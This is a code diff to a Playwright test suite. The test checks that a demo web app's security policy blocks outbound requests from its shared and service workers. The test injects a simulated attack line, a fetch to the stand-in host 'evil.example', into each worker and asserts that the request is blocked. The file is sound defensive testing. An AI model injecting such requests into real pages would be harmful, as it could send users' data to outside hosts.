@@ -45,7 +45,7 @@ const ATTACKS = [
 /** Runs a line as code that is already in the page, so that the page's policy does not block the line itself. */
 const runInPage = (page: Page, line: string) => page.evaluate(line).catch(() => {});
 
-/** Runs a line in the worker of this file. Playwright cannot reach a shared worker. */
+/** Evaluates the expression in the worker that runs `file`, through DevTools: Playwright cannot reach shared workers. */
 async function runInWorker(page: Page, file: string, expression: string): Promise<void> {
   const session = await page.context().browser()?.newBrowserCDPSession();
   const { targetInfos = [] } = (await session?.send('Target.getTargets', { filter: [{}] })) ?? {};
@@ -101,23 +101,25 @@ test.describe('under attack', () => {
     }
   });
 
-  test('[SIM-2][TOUR-9] the security policy is enforced on the workers of the demo', async ({
-    keep,
-    openPage,
-    violations,
-  }) => {
-    const stick = await keep(startUsbStick());
-    const room = await openPage('about:blank', tourSeen(stick.origin));
-    await room.goto(`${stick.origin}/`);
-    await expect(room.getByText('Listo sin conexión')).toBeVisible({ timeout: 120_000 });
-    for (const [kind, file] of [
-      ['shared_worker', 'kitchen.js'],
-      ['service_worker', 'service-worker.js'],
-    ] as const) {
-      await runInWorker(room, file, `void fetch('https://evil.example/${kind}').catch(() => {})`);
-      const stopped = () =>
-        violations().some((one) => one.startsWith(kind) && one.endsWith(`: connect-src https://evil.example/${kind}`));
-      await expect.poll(stopped, { message: file }).toBe(true);
-    }
-  });
+  test(
+    '[SIM-2][TOUR-9] the security policy is enforced on the workers of the demo',
+    LONG,
+    async ({ keep, openPage, violations }) => {
+      const stick = await keep(startUsbStick());
+      const room = await openPage('about:blank', tourSeen(stick.origin));
+      await room.goto(`${stick.origin}/`);
+      await expect(room.getByText('Listo sin conexión')).toBeVisible({ timeout: 120_000 });
+      for (const [kind, file] of [
+        ['shared_worker', 'kitchen.js'],
+        ['service_worker', 'service-worker.js'],
+      ] as const) {
+        await runInWorker(room, file, `void fetch('https://evil.example/${kind}').catch(() => {})`);
+        const stopped = () =>
+          violations().some(
+            (one) => one.startsWith(kind) && one.endsWith(`: connect-src https://evil.example/${kind}`),
+          );
+        await expect.poll(stopped, { message: file }).toBe(true);
+      }
+    },
+  );
 });
